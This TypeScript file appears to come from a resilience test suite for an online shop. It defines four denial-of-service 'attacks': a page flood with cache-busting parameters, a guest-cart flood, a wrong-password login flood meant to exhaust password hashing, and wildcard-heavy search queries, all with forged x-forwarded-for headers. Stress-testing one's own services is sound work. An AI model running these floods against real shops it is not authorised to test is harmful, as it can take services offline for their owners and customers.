import { type Attack, postOperation, repeat } from './pace.ts'

const ADD =
  'mutation ($sku: String!) { addToCart(input: { lines: [{ sku: $sku, quantity: 1 }] }) { userErrors { code } } }'
const LOGIN = 'mutation ($input: LoginInput!) { login(input: $input) { userErrors { code } } }'

const pages = ['/', '/products', '/electrical-feedthroughs/power', '/search?terms=viewport', '/cart']

/** Pages requested as fast as possible, each with an uncached query. */
export const requestFlood: Attack = {
  name: 'request flood',
  run: ({ web, address }, signal) =>
    repeat({ perSecond: 200, parallel: 40, signal }, async (index) => {
      const page = pages[index % pages.length] ?? '/'
      const url = `${web}${page}${page.includes('?') ? '&' : '?'}utm_source=${index}`
      const answer = await fetch(url, { headers: { 'x-forwarded-for': address }, signal })
      await answer.arrayBuffer()
    }),
}

/** Each request starts a new cart. */
export const cartFlood: Attack = {
  name: 'guest cart flood',
  run: ({ web, address }, signal) =>
    repeat({ perSecond: 100, parallel: 20, signal }, () =>
      postOperation(web, address, { query: ADD, variables: { sku: '110001' } }, signal),
    ),
}

/** Each wrong password costs the backend a slow hash. */
export const passwordFlood: Attack = {
  name: 'wrong-password flood',
  run: ({ web, address }, signal) =>
    repeat({ perSecond: 50, parallel: 20, signal }, (index) => {
      const input = { email: `somebody-${index}@lab.example`, password: `wrong-password-${index}` }
      return postOperation(web, address, { query: LOGIN, variables: { input } }, signal)
    }),
}

const SUGGEST = 'query ($text: String!) { searchSuggestions(text: $text) { label } }'
const SEARCH = 'query ($text: String!) { search(terms: $text, first: 5) { totalCount } }'

/** One word with many punctuation marks: such a search text used to stall the shop. */
export const wildcardSearches: Attack = {
  name: 'a*a*a*… suggestions and searches',
  run: ({ gateway, address }, signal) =>
    repeat({ perSecond: 20, parallel: 8, signal }, (index) => {
      const text = 'a*b*c*'.repeat(40).slice(index % 3, 80 + (index % 120))
      const query = index % 4 === 0 ? SEARCH : SUGGEST
      return postOperation(gateway, address, { query, variables: { text } }, signal)
    }),
}
